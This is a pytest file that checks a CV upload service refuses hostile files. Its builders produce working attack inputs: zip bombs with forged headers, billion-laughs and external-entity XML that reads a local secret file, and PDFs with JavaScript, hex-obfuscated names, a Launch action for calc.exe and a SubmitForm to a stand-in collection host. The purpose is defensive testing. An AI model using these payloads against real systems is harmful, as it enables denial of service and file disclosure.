"""Hostile CV files through the parse endpoint and the public apply form: zip bombs (a part
that inflates far past its declared size, a part that declares gigabytes, tens of thousands of
entries, a bomb inside the document), XML entity tricks (external entities, billion laughs,
external DTDs), PDFs with JavaScript or launch actions, encrypted and truncated PDFs, files
whose name lies about their type, and text in the encodings Windows still writes.

Each file is either refused with a clear 4xx (a problem document from the API, a page with
the reason from the form) and stores nothing, or parsed into the right text. The parse stops
early: memory is measured around the extractor with tracemalloc (loosely, far below what
the bomb would take); no time is asserted.

test_cv_parsing.py covers the ordinary refusals (a zip bomb with honest sizes, encrypted and
damaged PDFs, text encodings) through the API; this file adds the hostile ones and the form.
"""

from __future__ import annotations

import http.server
import io
import socketserver
import struct
import threading
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader, PdfWriter
from sqlalchemy import select
from sqlalchemy.orm import Session

from matching.documents.extract import Limits, extract
from models import Application, CandidateDocument
from runtime.settings import Settings
from tests.matching.test_cv_parsing import (
    DUTCH_CV_TEXT,
    dutch_cv_docx,
    english_cv_pdf,
    raw_pdf,
    upload,
    zip_file,
)
from tests.pages.test_vacancy_page import form_fields, page_seed, path_of
from tests.security.support import changed, problem_failure, row_counts

GIB = 1 << 30
LIMITS = Limits(max_bytes=10 * 1024 * 1024, max_pages=50, max_decompressed_bytes=50 * 1024 * 1024)
# Far more than a parse of these files needs, far less than any bomb below would take.
MEMORY_CEILING = 64 * 1024 * 1024
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


# --- building hostile archives ----------------------------------------------------------


def _members(docx: bytes) -> dict[str, bytes]:
    source = zipfile.ZipFile(io.BytesIO(docx))
    return {info.filename: source.read(info) for info in source.infolist()}


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _zeros_deflated(prefix: bytes, size: int) -> bytes:
    """A raw deflate stream of ``prefix`` and then ``size`` zero bytes, built in
    milliseconds: one fully flushed block of a MiB of zeros, repeated (each such block stands
    alone), then the final block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return head + block * (size >> 20) + compressor.flush()


def hand_zip(members: dict[str, bytes], raw: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A ZIP file written byte by byte, so that a member (``raw``: name -> deflated data,
    declared size, declared CRC-32) can say what it likes about itself."""
    out = bytearray()
    central = bytearray()
    for name, content in members.items():
        data, size, crc = raw.get(name) or (_deflate(content), len(content), zlib.crc32(content))
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0
        )
        out += encoded + data
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    count = len(members)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def lying_part_bomb() -> bytes:
    """document.xml declares its real size and checksum, but its deflate stream runs on
    for a GiB of zeros after the document."""
    members = _members(dutch_cv_docx())
    document = members["word/document.xml"]
    bomb = _zeros_deflated(document, GIB)
    return hand_zip(members, {"word/document.xml": (bomb, len(document), zlib.crc32(document))})


def lying_checksum_bomb() -> bytes:
    """A part that declares 4 KiB and inflates to a GiB; its checksum is of nothing real."""
    members = _members(dutch_cv_docx())
    members["word/media/image1.png"] = b""
    bomb = _zeros_deflated(b"", GIB)
    return hand_zip(members, {"word/media/image1.png": (bomb, 4096, 0)})


def declared_gigabyte() -> bytes:
    """A part that honestly declares a GiB."""
    members = _members(dutch_cv_docx())
    members["word/media/zeros.bin"] = b""
    bomb = _zeros_deflated(b"", GIB)
    return hand_zip(members, {"word/media/zeros.bin": (bomb, GIB, 0)})


def many_entries() -> bytes:
    members = _members(dutch_cv_docx())
    members.update({f"customXml/item{n}.xml": b"" for n in range(5000)})
    return hand_zip(members, {})


def nested_bomb() -> bytes:
    """A DOCX carrying a zip bomb as an embedded file: it is never opened."""
    inner = hand_zip({"zeros.bin": b""}, {"zeros.bin": (_zeros_deflated(b"", GIB), GIB, 0)})
    members = _members(dutch_cv_docx())
    members["word/embeddings/archive.zip"] = inner
    return zip_file(members)


def with_part(name: str, content: bytes) -> bytes:
    members = _members(dutch_cv_docx())
    members[name] = content
    return zip_file(members)


def _document_xml(doctype: bytes, text: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
        + doctype
        + b"<w:document "
        + W_NS
        + b"><w:body><w:p><w:r><w:t>Pieter Jansen "
        + text
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )


def billion_laughs() -> bytes:
    entities = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return with_part(
        "word/document.xml", _document_xml(b"<!DOCTYPE w [" + entities + b"]>", b"&l9;")
    )


def macro_enabled() -> bytes:
    """A .docm (Word with macros) named .docx."""
    members = _members(dutch_cv_docx())
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return zip_file(members)


# --- building hostile PDFs --------------------------------------------------------------


_CONTENT = b"BT /F1 12 Tf 72 720 Td (Anna de Vries) Tj ET"


def pdf_with(catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None) -> bytes:
    """A one-page PDF with entries added to its catalogue and page; objects 6 and up are
    ``extra``."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R " + page + b" >>",
            b"<< /Length %d >>\nstream\n%b\nendstream" % (len(_CONTENT), _CONTENT),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(extra or []),
        ]
    )


def pdf_with_names_javascript() -> bytes:
    """Document-level JavaScript, run when the file opens: the catalogue's name tree."""
    names = b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>"
    return pdf_with(names, extra=[JS_ACTION])


def pdf_with_owner_password_only() -> bytes:
    """Encrypted with an empty user password: readable by anyone, but encrypted."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(english_cv_pdf())))
    writer.encrypt(user_password="", owner_password="eigenaar")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE_PDFS: list[Any] = [
    pytest.param(lambda: pdf_with(b"/OpenAction 6 0 R", extra=[JS_ACTION]), id="open-action-js"),
    pytest.param(pdf_with_names_javascript, id="document-level-js"),
    pytest.param(
        # The same action with its names written in hex escapes.
        lambda: pdf_with(b"/OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>"),
        id="obfuscated-names",
    ),
    pytest.param(
        lambda: pdf_with(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>"),
        id="launch-action",
    ),
    pytest.param(
        lambda: pdf_with(page=b"/AA << /O 6 0 R >>", extra=[JS_ACTION]), id="page-open-js"
    ),
    pytest.param(
        lambda: pdf_with(
            page=b"/Annots [6 0 R]",
            extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 7 0 R >>", JS_ACTION],
        ),
        id="link-annotation-js",
    ),
    pytest.param(
        lambda: pdf_with(b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=[b"<< /Length 0 >>"]),
        id="xfa-form",
    ),
    pytest.param(
        lambda: pdf_with(b"/OpenAction << /S /SubmitForm /F (https://collect.example/cv) >>"),
        id="submit-form",
    ),
]


# --- the parse endpoint -----------------------------------------------------------------


def _peak_memory(make: Callable[[], bytes]) -> tuple[Any, int]:
    """The extractor's outcome (a document or the error it raised) and the peak of memory
    allocated while it ran."""
    content = make()
    tracemalloc.start()
    try:
        try:
            outcome: Any = extract("cv.docx", content, LIMITS)
        except Exception as exc:
            outcome = exc
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return outcome, peak


BOMBS: list[Any] = [
    # The declared part is the whole document: it is read, the rest of the stream never is.
    pytest.param(lying_part_bomb, 200, None, id="part-inflating-past-its-size"),
    pytest.param(lying_checksum_bomb, 422, "corrupt-document", id="part-with-a-false-checksum"),
    pytest.param(declared_gigabyte, 413, "payload-too-large", id="part-declaring-a-gigabyte"),
    pytest.param(many_entries, 413, "payload-too-large", id="5000-entries"),
    pytest.param(nested_bomb, 200, None, id="bomb-inside-the-document"),
]


@pytest.mark.parametrize(("make", "status", "slug"), BOMBS)
def test_zip_bombs_stop_early_and_store_nothing(
    client: TestClient,
    admin: dict[str, str],
    db: Session,
    make: Callable[[], bytes],
    status: int,
    slug: str | None,
) -> None:
    outcome, peak = _peak_memory(make)
    assert peak < MEMORY_CEILING, f"{peak / 2**20:.0f} MiB while parsing"
    before = row_counts(db)
    response = upload(client, admin, "cv.docx", make(), create=slug is not None)
    if slug is None:
        assert response.status_code == 200, response.text
        assert response.json()["text"] == DUTCH_CV_TEXT
        assert outcome.text == DUTCH_CV_TEXT
    else:
        assert problem_failure(response, (status,), "") is None, response.text
        assert response.json()["type"] == f"/problems/{slug}"
        assert isinstance(outcome, Exception)
    assert changed(before, row_counts(db)) == {}


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("SECRET-7f3a9c-MUST-NOT-LEAK")
    return path


class Listener:
    """A local HTTP server that counts the requests it gets (an XML parser that loads an
    external DTD or entity would be one)."""

    def __init__(self) -> None:
        self.hits = 0
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.hits += 1
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b'<!ENTITY leak "LOADED-FROM-THE-NETWORK">')

            def log_message(self, *args: Any) -> None:
                pass

        self.server = socketserver.TCPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as started:
        yield started


def _entity_files(secret: Path, url: str) -> dict[str, bytes]:
    system = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file://%s">]>' % str(secret).encode()
    parameter = b'<!DOCTYPE w [<!ENTITY %% remote SYSTEM "%s/evil.dtd"> %%remote;]>' % url.encode()
    external_dtd = b'<!DOCTYPE w SYSTEM "%s/word.dtd">' % url.encode()
    types = _members(dutch_cv_docx())["[Content_Types].xml"]
    rels = _members(dutch_cv_docx())["word/_rels/document.xml.rels"]
    return {
        "external-entity-in-the-body": with_part(
            "word/document.xml", _document_xml(system, b"&x;")
        ),
        "parameter-entity-from-the-network": with_part(
            "word/document.xml", _document_xml(parameter, b"&leak;")
        ),
        "external-dtd": with_part("word/document.xml", _document_xml(external_dtd, b"&leak;")),
        "external-entity-in-the-content-types": with_part(
            "[Content_Types].xml",
            types.replace(b"<Types", system.replace(b"w [", b"Types [") + b"<Types", 1).replace(
                b"</Types>", b"<Default Extension='x' ContentType='&x;'/></Types>"
            ),
        ),
        "external-entity-in-the-relationships": with_part(
            "word/_rels/document.xml.rels",
            rels.replace(
                b"<Relationships", system.replace(b"w [", b"Relationships [") + b"<Relationships", 1
            ),
        ),
    }


@pytest.mark.parametrize(
    "name",
    [
        "external-entity-in-the-body",
        "parameter-entity-from-the-network",
        "external-dtd",
        "external-entity-in-the-content-types",
        "external-entity-in-the-relationships",
    ],
)
def test_xml_entities_load_nothing_and_leak_nothing(
    client: TestClient,
    admin: dict[str, str],
    db: Session,
    secret_file: Path,
    listener: Listener,
    name: str,
) -> None:
    content = _entity_files(secret_file, listener.url)[name]
    before = row_counts(db)
    response = upload(client, admin, "cv.docx", content, create=True)
    assert response.status_code in (201, 422), response.text
    assert "SECRET-7f3a9c" not in response.text
    assert "LOADED-FROM-THE-NETWORK" not in response.text
    assert listener.hits == 0
    if response.status_code == 422:
        assert problem_failure(response, (422,), "") is None
        assert changed(before, row_counts(db)) == {}
    else:  # stored: the file as sent, and text without anything the entities point at
        stored = db.scalars(select(CandidateDocument.text)).all()
        assert stored
        assert all("SECRET-7f3a9c" not in text for text in stored)


def test_billion_laughs_is_refused(client: TestClient, admin: dict[str, str], db: Session) -> None:
    outcome, peak = _peak_memory(billion_laughs)
    assert peak < MEMORY_CEILING
    assert isinstance(outcome, Exception)
    before = row_counts(db)
    response = upload(client, admin, "cv.docx", billion_laughs(), create=True)
    assert problem_failure(response, (422,), "amplification") is None, response.text
    assert changed(before, row_counts(db)) == {}


@pytest.mark.parametrize("make", ACTIVE_PDFS)
def test_pdfs_with_active_content_are_refused(
    client: TestClient, admin: dict[str, str], db: Session, make: Callable[[], bytes]
) -> None:
    before = row_counts(db)
    response = upload(client, admin, "cv.pdf", make(), create=True)
    assert problem_failure(response, (422,), "the PDF contains") is None, response.text
    assert response.json()["type"] == "/problems/active-content"
    assert changed(before, row_counts(db)) == {}


def test_a_pdf_with_an_ordinary_link_is_read(client: TestClient, admin: dict[str, str]) -> None:
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
        b"/A << /S /URI /URI (https://www.kb.nl/) >> >>"
    )
    response = upload(client, admin, "cv.pdf", pdf_with(page=b"/Annots [6 0 R]", extra=[link]))
    assert response.status_code == 200, response.text
    assert response.json()["text"] == "Anna de Vries"


LIES: list[Any] = [
    # The bytes decide: a PDF named .docx is read as the PDF it is, and stored as one.
    pytest.param("cv.docx", english_cv_pdf, "pdf", id="pdf-named-docx"),
    pytest.param("cv.pdf", dutch_cv_docx, "docx", id="docx-named-pdf"),
    pytest.param("cv.pdf", lambda: DUTCH_CV_TEXT.encode(), "txt", id="text-named-pdf"),
]


@pytest.mark.parametrize(("filename", "make", "kind"), LIES)
def test_the_bytes_not_the_name_decide_the_type(
    client: TestClient,
    admin: dict[str, str],
    db: Session,
    filename: str,
    make: Callable[[], bytes],
    kind: str,
) -> None:
    content = make()
    response = upload(client, admin, filename, content, create=True, media_type=DOCX_TYPE)
    assert response.status_code == 201, response.text
    assert response.json()["kind"] == kind
    document = db.scalars(select(CandidateDocument)).one()
    assert document.filename == filename
    assert document.content == content
    assert (
        document.media_type
        == {"pdf": "application/pdf", "docx": DOCX_TYPE, "txt": "text/plain"}[kind]
    )


REFUSED_LIES: list[Any] = [
    pytest.param(
        "cv.pdf", lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(4096), 415, id="program-named-pdf"
    ),
    pytest.param(
        "cv.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        415,
        id="word-97-named-docx",
    ),
    pytest.param("cv.docx", macro_enabled, 422, id="docm-named-docx"),
    pytest.param("cv.pdf", lambda: b"PK\x03\x04" + bytes(64), 422, id="broken-zip-named-pdf"),
    pytest.param("cv.txt", lambda: b"%PDF-1.7\n%%EOF", 422, id="empty-pdf-named-txt"),
]


@pytest.mark.parametrize(("filename", "make", "status"), REFUSED_LIES)
def test_a_file_that_is_not_what_it_claims_is_refused(
    client: TestClient,
    admin: dict[str, str],
    db: Session,
    filename: str,
    make: Callable[[], bytes],
    status: int,
) -> None:
    before = row_counts(db)
    response = upload(client, admin, filename, make(), create=True, media_type="application/pdf")
    assert problem_failure(response, (status,), "") is None, response.text
    assert changed(before, row_counts(db)) == {}


# --- the apply form ---------------------------------------------------------------------


def apply(client: TestClient, data: Any, settings: Settings, filename: str, content: bytes) -> Any:
    return client.post(
        f"{path_of(data)}/apply",
        data=form_fields(data, settings, lang="en"),
        files={"cv": (filename, content, "application/octet-stream")},
        follow_redirects=False,
    )


def _encrypted() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(english_cv_pdf())))
    writer.encrypt("geheim")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


FORM_REFUSALS: list[Any] = [
    pytest.param("cv.docx", lying_checksum_bomb, "damaged", id="zip-bomb"),
    pytest.param("cv.docx", declared_gigabyte, "expands to", id="declared-gigabyte"),
    pytest.param("cv.docx", many_entries, "entries", id="5000-entries"),
    pytest.param("cv.docx", billion_laughs, "amplification", id="billion-laughs"),
    pytest.param("cv.docx", macro_enabled, "macros", id="docm"),
    pytest.param(
        "cv.pdf",
        lambda: pdf_with(b"/OpenAction 6 0 R", extra=[JS_ACTION]),
        "contains JavaScript",
        id="pdf-javascript",
    ),
    pytest.param("cv.pdf", _encrypted, "encrypted", id="pdf-encrypted"),
    pytest.param("cv.pdf", pdf_with_owner_password_only, "encrypted", id="pdf-owner-password"),
    pytest.param("cv.pdf", lambda: english_cv_pdf()[:700], "damaged", id="pdf-truncated"),
    pytest.param(
        "cv.pdf", lambda: b"\x7fELF\x02\x01\x01\x00" + bytes(4096), "neither PDF", id="program"
    ),
]


@pytest.mark.parametrize(("filename", "make", "reason"), FORM_REFUSALS)
def test_the_apply_form_refuses_hostile_files_with_a_page(
    client: TestClient,
    db: Session,
    settings: Settings,
    filename: str,
    make: Callable[[], bytes],
    reason: str,
) -> None:
    data = page_seed(db)
    before = row_counts(db)
    response = apply(client, data, settings, filename, make())
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("text/html")
    assert "We could not read this file" in response.text
    assert reason in response.text
    # The visitor keeps what they typed.
    assert 'value="Eva de Vries"' in response.text
    assert changed(before, row_counts(db)) == {}


ENCODINGS: list[Any] = [
    pytest.param("cp1252", "\r\n", id="windows-1252"),
    pytest.param("latin-1", "\n", id="latin-1"),
    pytest.param("utf-16", "\r\n", id="utf-16-le-bom"),
    pytest.param("utf-16-be", "\n", id="utf-16-be-bom"),
    pytest.param("utf-8-sig", "\n", id="utf-8-bom"),
]


@pytest.mark.parametrize(("encoding", "newline"), ENCODINGS)
def test_the_apply_form_reads_text_in_each_encoding(
    client: TestClient, db: Session, settings: Settings, encoding: str, newline: str
) -> None:
    lines = ["Renée Müller", "Conservator papier en perkament", "Ervaring", "Restauratie, Archief"]
    content = newline.join(lines).encode(encoding)
    if encoding == "utf-16-be":
        content = b"\xfe\xff" + content
    data = page_seed(db)
    response = apply(client, data, settings, "cv.txt", content)
    assert response.status_code == 303, response.text
    document = db.scalars(select(CandidateDocument)).one()
    assert document.text == "\n".join(lines)
    assert document.content == content
    assert db.scalars(select(Application)).one().candidate_id == document.candidate_id
